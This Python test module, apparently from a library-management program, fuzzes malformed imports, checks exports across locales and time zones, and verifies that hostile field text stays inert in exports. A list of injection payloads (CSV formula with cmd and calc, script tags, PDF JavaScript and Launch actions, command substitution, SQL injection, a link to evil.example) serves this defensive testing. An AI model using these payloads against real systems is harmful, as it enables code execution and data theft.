# SPDX-License-Identifier: GPL-3.0-or-later
"""What goes in and out: malformed files are imported as a whole or not at all,
an export imports to the same, whatever the locale and time zone, and nothing that
is written into a field becomes active in what is exported."""

import csv
import io
import json
import os
import random
import re
import shutil
import sqlite3
import subprocess
import zlib

from disk import script
from program import read_library
from row import Row

LOCALES = ('en_GB', 'cy_GB', 'de_DE', 'fr_FR', 'pl_PL', 'pt_BR', 'ru_RU', 'tr_TR', 'ar_EG', 'fa_IR', 'hi_IN', 'th_TH', 'ja_JP')
ZONES = ('UTC', 'Europe/London', 'America/New_York', 'America/St_Johns', 'Asia/Kolkata', 'Pacific/Apia', 'Pacific/Chatham',
         'Africa/Casablanca')
KINDS = ('figures', 'events', 'sources', 'pledges', 'verdicts', 'positions', 'milestones', 'briefings')

# As a person would type them into any field.
HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)*cmd',
           '<script>alert(1)</script><img src=x onerror=alert(1)>', '[x](javascript:alert(1)) <javascript:alert(1)>',
           '[x](http://a.example/)>>/S/JavaScript/JS(app.alert(1)))', 'http://a.example/)/S/JavaScript/JS(app.alert(1))(',
           "https://a.example/'\\)(%0a", '[x](file:///etc/passwd) file:///etc/passwd', ') >> /OpenAction << /S /Launch /F (x) >> (',
           '{figure:17016|) /S /JavaScript /JS (app.alert(1))}', '%s%n%x$(id)`id`', 'data:text/html,<script>alert(1)</script>',
           '"; DROP TABLE figure; --', '</w:t></script>"}],"x":[{')
ACTIVE = re.compile(rb'/(JavaScript|JS|Launch|OpenAction|AA|SubmitForm|ImportData|EmbeddedFile|RichMedia|GoToR|GoToE|Rendition)'
                    rb'(?![A-Za-z0-9])')
URI = re.compile(rb'/URI\s*\(((?:\\.|[^\\()])*)\)')
STRING = re.compile(rb'\((?:\\.|[^\\()])*\)')
FORMULA = ('=', '+', '-', '@', '\t', '\r', '\n')
NUMBER = re.compile(r'[-+][0-9.,]+')


# Malformed files.

def small_library(program):
    """Return some records of the sample that name one another, in the library format."""
    records = json.loads(open(os.environ['CAREBRIEF_SAMPLE'], encoding='utf-8').read())['records']
    kept = {kind: records[kind][:6] for kind in ('place', 'actor', 'theme', 'figure', 'event', 'source', 'quotation')}
    numbers = {record['id'] for kind in kept for record in kept[kind]}
    for kind in kept:
        kept[kind] = [{field: value for field, value in record.items()
                       if field in ('happened', 'published') or not re.fullmatch('[0-9]{4,5}', value) or value in numbers}
                      for record in kept[kind]]
    return {'format': 'carebrief-library', 'version': 1, 'records': kept}


def places(value, path=()):
    """Yield the path of everything in a JSON value."""
    yield path
    if isinstance(value, (dict, list)):
        for key in (value if isinstance(value, dict) else range(len(value))):
            yield from places(value[key], path + (key,))


ODD = (None, True, -1, 1e300, 10 ** 30, '', ' ', 'x' * 70000, '\0', '\ud800', [], {}, [[]], {'id': '1'}, '17016', 'no such word',
       '99999999999999999999', '-5', '0', '../../etc/passwd', '\u202e\u2066', 'é' * 1000, '2015-02-31', '1e999999 GBP')


def spoil_json(good, chance):
    """Return bytes of a library format with something wrong about its values."""
    value = json.loads(json.dumps(good))
    for _ in range(chance.randint(1, 3)):
        path = chance.choice([place for place in places(value) if place])
        at = value
        for key in path[:-1]:
            at = at[key]
        how = chance.randrange(4)
        if how == 0:
            del at[path[-1]]
        elif how == 1 and isinstance(at, list):
            at.append(json.loads(json.dumps(at[path[-1]])))
        elif how == 2 and isinstance(at, dict):
            at[chance.choice(('id', 'label', 'title', 'x', '', 'records'))] = at[path[-1]]
        else:
            at[path[-1]] = chance.choice(ODD)
    return json.dumps(value, ensure_ascii=chance.random() < 0.5).encode(errors='surrogatepass')


def spoil_bytes(good, chance):
    """Return bytes that are no longer quite what they were."""
    data = bytearray(good)
    for _ in range(chance.choice((1, 1, 2, 10))):
        at, length = chance.randrange(len(data)), chance.choice((1, 1, 4, 100))
        how = chance.randrange(6)
        if how == 0:
            data[at] ^= 1 << chance.randrange(8)
        elif how == 1:
            del data[at:at + length]
        elif how == 2:
            data[at:at] = data[at:at + length]
        elif how == 3:
            data[at:at] = chance.choice((b'"', b'{', b'[', b'}', b',', b'\0', b'\xff', b'\\u0000', b'\r', b'\n\n', b'1e999', b'""'))
        elif how == 4:
            data[at:at + length] = chance.randbytes(length)
        else:
            del data[at:]
        if not data:
            break
    return bytes(data)


def new_figures(text):
    """Return a table of figures without their ids: each is a new one."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in csv.reader(io.StringIO(text)):
        writer.writerow(row[:-1])
    return out.getvalue().encode()


def is_whole(before, after, kind, data):
    """Whether what was imported is all that is in the file, as far as that can be told beside the program."""
    new = {key: value for key, value in after.records.items() if key not in before.records}
    if any(after.records.get(key) != value for key, value in before.records.items()):
        return False
    if kind == 'csv':
        rows = list(csv.reader(io.StringIO(data.decode('utf-8-sig'), newline='')))
        return len(new) == sum(any(cell.strip() for cell in row) for row in rows[1:])
    try:
        records = json.loads(data)['records']
    except (ValueError, TypeError, KeyError):
        return False
    told = {(name, int(record['id'])) for name in ('actor', 'event', 'figure', 'source') for record in records.get(name, [])}
    return set(new) == told


def malformed_row(program, base, kind, good, count, codes):
    """Give it malformed files; the library is as it was, or holds all of one."""
    library, file = program.place / 'library.carebrief', program.place / f'in.{kind}'
    if kind == 'csv':
        shutil.copy(base, library)
    else:
        program.must('new', library)
    whole, before, taken, failures = library.read_bytes(), read_library(library), 0, []
    file.write_bytes(good if kind == 'csv' else json.dumps(good).encode())
    program.must('import', library, file)
    if not is_whole(before, program.read(library), kind, file.read_bytes()):
        failures.append(f'{kind}: the good file was not imported as a whole')
    library.write_bytes(whole)
    for tried in range(count):
        chance = random.Random(tried)
        data = spoil_json(good, chance) if kind == 'json' and tried % 2 else spoil_bytes(
            good if kind == 'csv' else json.dumps(good, ensure_ascii=False).encode(), chance)
        file.write_bytes(data)
        done = program.run('import', library, file)
        problem = wrong_import(done, codes)
        if done.code == 0:
            taken += 1
            if not problem and not is_whole(before, program.read(library), kind, data):
                problem = 'a part of it was imported'
            library.write_bytes(whole)
        elif not problem and library.read_bytes() != whole:
            problem = f'it ended with {done.code} and changed the library'
        failures += [f'{kind} {tried}: {problem}'] if problem else []
    return Row(f'malformed {kind}', count, failures, f'{taken} were good enough, and are there as a whole')


def wrong_import(done, codes):
    """Say what is wrong with how an import ended: it says in one line each what is."""
    if done.hung or done.code < 0 or done.code not in codes or 'Sanitizer' in done.err:
        return done.wrong(codes) or f'exit code {done.code}'
    if done.code and not re.fullmatch(r'(carebrief: [^\n]+\n)+', done.err):
        return f'unclear: {done.err[:300]!r}'
    return f'it took {done.seconds:.1f} s' if done.seconds > 10 else None


# Locales, zones.

def some_locales():
    """Return the most awkward locale, if the system has its sources."""
    return [name for name in ('tr_TR',) if os.path.exists(f'/usr/share/i18n/locales/{name}')]


def make_locales(folder, names):
    """Make locales of those that the system has only the sources of; return which are there."""
    made = []
    for name in names:
        done = subprocess.run(['localedef', '-i', name, '-f', 'UTF-8', folder / f'{name}.UTF-8'], capture_output=True, check=False)
        if (folder / f'{name}.UTF-8' / 'LC_TIME').exists() or done.returncode == 0:
            made.append(name)
    return made


def dated_lines(last):
    """Return acts with dates of all years, as a person types them."""
    lines, number = [], 6 * 10 ** 6
    for year in range(1969, last + 1):
        words = (f'{year}', f'1 January {year}', f'31 December {year}', f'28 February {year}', f'March {year}', f'{year}-07-01')
        steps = []
        for word in words[:6 if year % 10 == 9 or last - year < 3 else 2]:
            number += 1
            steps.append({'insert': 'event', 'id': str(number),
                          'values': {'title': f'Of {word}', 'kind': 'other', 'happened': word}})
        steps.append({'insert': 'figure', 'id': str(number), 'values': {'label': f'In {year}', 'value': f'£{year}.5 million'}})
        lines.append(json.dumps({'steps': steps}) + '\n')
    return ''.join(lines).encode()


def exports(program, library):
    """Return the bytes of all that can be exported of a library as data."""
    found = {'json': program.must('export', library, '--format', 'json'), 'info': program.must('list', 'figures', library, '--format', 'json')}
    for kind in KINDS:
        found[kind] = program.must('list', kind, library, '--format', 'csv')
    return found


def places_row(program, base, locales, zones, last):
    """The same acts and the same exports everywhere."""
    folder = program.folder / 'locales'
    folder.mkdir(exist_ok=True)
    names = make_locales(folder, locales)
    failures = [f'{name} could not be made' for name in locales if name not in names]
    typed, library, expected, tried = dated_lines(last), program.place / 'library.carebrief', None, 0
    old = {name: os.environ.get(name) for name in ('LC_ALL', 'LOCPATH', 'TZ')}
    try:
        for name in ('C', *names):
            for zone in zones:
                os.environ.update({'LC_ALL': f'{name}.UTF-8', 'LOCPATH': str(folder), 'TZ': zone})
                if name == 'C':
                    del os.environ['LOCPATH']
                shutil.copy(base, library)
                program.must('apply', library, typed=typed)
                found = exports(program, library)
                expected = expected or found
                tried += 1
                failures += [f'{name}, {zone}: {what} differs' for what in found if found[what] != expected[what]]
    finally:
        for name, value in old.items():
            os.environ.pop(name, None) if value is None else os.environ.__setitem__(name, value)
    return Row('the same in every locale and zone', tried, failures,
               f'{len(names)} locales and C, {len(zones)} zones, dates 1969 to {last}, {len(expected)} exports')


# Out and in again; hostile texts.

def columns(library):
    """Return (kind, field) of all that a library has columns for."""
    with sqlite3.connect(library) as database:
        kinds = [name for (name,) in database.execute("SELECT name FROM sqlite_schema WHERE type = 'table'")]
        found = []
        for kind in kinds:
            rows = list(database.execute(f'PRAGMA table_info ("{kind}")'))
            first = database.execute(f'SELECT id FROM "{kind}" LIMIT 1').fetchone() if any(r[1] == 'id' for r in rows) else None
            if first and not kind.startswith(('history', 'search', 'catalogue')):
                found += [(kind, first[0], row[1]) for row in rows if row[2] == 'TEXT']
    database.close()
    return found


def make_hostile(program, base, library, text):
    """Write a text into a record's every field that takes it; return which did."""
    shutil.copy(base, library)
    fields = columns(library)
    lines = ''.join(json.dumps({'steps': [{'set': kind, 'id': str(number), 'values': {field: text}}]}) + '\n'
                    for kind, number, field in fields)
    done = program.run('apply', library, typed=lines.encode())
    if done.code not in (0, 11) or 'Sanitizer' in done.err:
        raise AssertionError(f'apply: {done.code}: {done.err[-300:]}')
    refused = {int(number) for number in re.findall(r'^carebrief: line ([0-9]+)', done.err, re.MULTILINE)}
    return [field for number, field in enumerate(fields, 1) if number not in refused]


def check_pdf(data):
    """Say what is active in a PDF, or return None."""
    outside, at = [], 0
    for match in re.finditer(rb'stream\r?\n(.*?)endstream', data, re.DOTALL):
        outside.append(data[at:match.start()])
        at = match.end()
        head = data[max(0, match.start() - 300):match.start()]
        if b'/ObjStm' in head:
            outside.append(zlib.decompress(match.group(1).rstrip(b'\r\n')))
    outside.append(data[at:])
    objects = b'\n'.join(outside)
    for uri in URI.findall(objects):
        if not uri.startswith((b'http://', b'https://', b'mailto:')) or re.search(rb'[\\\'()<>\s]', uri):
            return f'a link to {uri[:100]!r}'
    if objects.count(b'/URI') - objects.count(b'/S /URI') - objects.count(b'/S/URI') != len(URI.findall(objects)):
        return 'a link that cannot be read'
    found = ACTIVE.search(STRING.sub(b'()', objects))
    return f'{found.group(0)!r}' if found else None


def check_csv(text):
    for row in csv.reader(io.StringIO(text), strict=True):
        for cell in row:
            if cell.startswith(FORMULA) and not NUMBER.fullmatch(cell):
                return f'the cell {cell[:60]!r}'
    return None


def check_exports(program, library, fields, text):
    """Yield what is wrong with what is exported of a hostile library."""
    done = program.run('export', library, '--format', 'pdf', '--pages', 'any', '--output', 'out.pdf')
    if done.wrong():
        yield f'pdf: {done.wrong()}'
        return
    data = (program.place / 'out.pdf').read_bytes()
    problem = check_pdf(data)
    if problem:
        yield f'pdf: {problem}'
    if subprocess.run(['pdfinfo', program.place / 'out.pdf'], capture_output=True, check=False).stderr:
        yield 'pdf: pdfinfo finds fault with it'
    records = json.loads(program.must('export', library, '--format', 'json'))['records']
    for kind, number, field in fields:
        value = next(record for record in records[kind] if record['id'] == str(number))[field]
        if value != text:
            yield f'json: {kind} {field} is {value!r}'
    for kind in csv_kinds(program):
        problem = check_csv(program.must('list', kind, library, '--format', 'csv'))
        json.loads(program.must('list', kind, library, '--format', 'json'))
        if problem:
            yield f'csv, {kind}: {problem}'
    json.loads(program.must('history', library, '--json'))


def csv_kinds(program):
    done = program.run('list', '?')
    return re.search(r'the kinds are: ([^\n]+)', done.err).group(1).split(', ')


def harmless_row(program, base, texts):
    library, failures, filled = program.place / 'library.carebrief', [], set()
    for text in texts:
        fields = make_hostile(program, base, library, text)
        filled |= {(kind, field) for kind, _, field in fields}
        failures += [f'{text!r}: {problem}' for problem in check_exports(program, library, fields, text)]
        problem = check_again(program, library)
        failures += [f'{text!r}: {problem}'] if problem else []
    return Row('hostile texts exported', len(texts), failures, f'in {len(filled)} fields; PDF, CSV, JSON')


def check_again(program, library):
    """Say what is lost by exporting and importing, or return None."""
    first = program.must('export', library, '--format', 'json')
    again, file = program.place / 'again.carebrief', program.place / 'again.json'
    file.write_text(first, encoding='utf-8')
    again.unlink(missing_ok=True)
    program.must('new', again)
    program.must('import', again, file)
    return None if program.must('export', again, '--format', 'json') == first else 'an export imports to something else'


def again_row(program, base, libraries, acts):
    """What was exported imports to the same, whatever was done in the library."""
    library, failures = program.place / 'library.carebrief', []
    records = read_library(base).records
    for seed in range(libraries):
        shutil.copy(base, library)
        program.must('apply', library, typed=script(records, seed, acts)[0])
        program.must('edition', 'make', library, '--minor')
        problem = check_again(program, library)
        failures += [f'library {seed}: {problem}'] if problem else []
    return Row('exported, and imported to the same', libraries, failures, f'each after {acts} acts and an edition')


def formats_rows(program, base, long):
    good = small_library(program)
    table = new_figures(program.must('list', 'figures', base, '--format', 'csv'))
    for make in (lambda: malformed_row(program, base, 'json', good, 7000 if long else 40, (0, 4, 5, 11)),
                 lambda: malformed_row(program, base, 'csv', table, 3000 if long else 20, (0, 4, 11)),
                 lambda: again_row(program, base, 100 if long else 2, 30),
                 lambda: places_row(program, base, LOCALES if long else some_locales(), ZONES if long else ZONES[5:7],
                                    2500 if long else 1999),
                 lambda: harmless_row(program, base, HOSTILE if long else HOSTILE[6:8])):
        program.clear()
        yield make()
